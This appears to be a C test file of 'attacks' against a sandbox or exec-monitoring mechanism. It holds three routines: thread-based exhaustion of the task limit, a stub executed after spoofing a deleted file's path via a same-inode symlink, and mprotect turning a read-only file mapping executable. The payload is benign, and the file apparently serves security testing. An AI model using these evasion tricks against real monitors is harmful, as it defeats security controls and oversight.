#include "novel.h"
#include <sys/sysmacros.h>

static void *idle(void *x)
{
	pause();
	return x;
}

/* fills FILE: takes all tasks that its user may have, and opens FILE a second later. */
static int fills(int argc, char **argv)
{
	pthread_attr_t small;
	pthread_t t;
	int n = 0;
	pthread_attr_init(&small);
	pthread_attr_setstacksize(&small, 16384);
	while (n < 1000 && pthread_create(&t, &small, idle, NULL) == 0)
		n++;
	printf("full %d\n", n < 1000);
	sleep(1);
	return open(argv[0], O_CREAT | O_RDWR, 0600) < 0 ? -1 : 0;
}

#if defined(__x86_64__)
static const unsigned char code[] = { 0xb8, 42, 0, 0, 0, 0xc3 };
#else
static const unsigned int code[] = { 0x52800540, 0xd65f03c0 };
#endif

/* twin FILE IMAGE: FILE has the inode number of a file of the image, on another file
 * system. When it has lost its name, that name leads to the other. */
static int twin(int argc, char **argv)
{
	char gone[512];
	struct stat a, b;
	int fd = open(argv[0], O_CREAT | O_RDWR, 0755);
	if (fd < 0 || write(fd, code, sizeof code) < 0 || fstat(fd, &a) < 0 || stat(argv[1], &b) < 0)
		return -1;
	printf("same number %d\n", a.st_ino == b.st_ino && a.st_dev != b.st_dev);
	int (*f)(void) = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
	snprintf(gone, sizeof gone, "%s (deleted)", argv[0]);
	if (f == MAP_FAILED || unlink(argv[0]) < 0 || symlink(argv[1], gone) < 0)
		return -1;
	if (mprotect(f, 4096, PROT_READ | PROT_EXEC) < 0)
		return -1;
	printf("returned %d\n", f());
	return 0;
}

/* becomes FILE: what was mapped to read becomes executable. */
static int becomes(int argc, char **argv)
{
	char line[512];
	unsigned major, minor, two = 0;
	struct stat st;
	int fd = open(argv[0], O_RDONLY);
	void *p = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
	FILE *m = fopen("/proc/self/maps", "r");
	while (p != MAP_FAILED && fstat(fd, &st) == 0 && fgets(line, sizeof line, m))
		if (strtoul(line, NULL, 16) == (unsigned long)p && sscanf(line, "%*s %*s %*s %x:%x", &major, &minor) == 2)
			two = makedev(major, minor) != st.st_dev;
	printf("two devices %d\n", two);
	return mprotect(p, 4096, PROT_READ | PROT_EXEC);
}

const struct attack fresh_attacks[] = { { "fills", fills }, { "twin", twin }, { "becomes", becomes }, { 0 } };
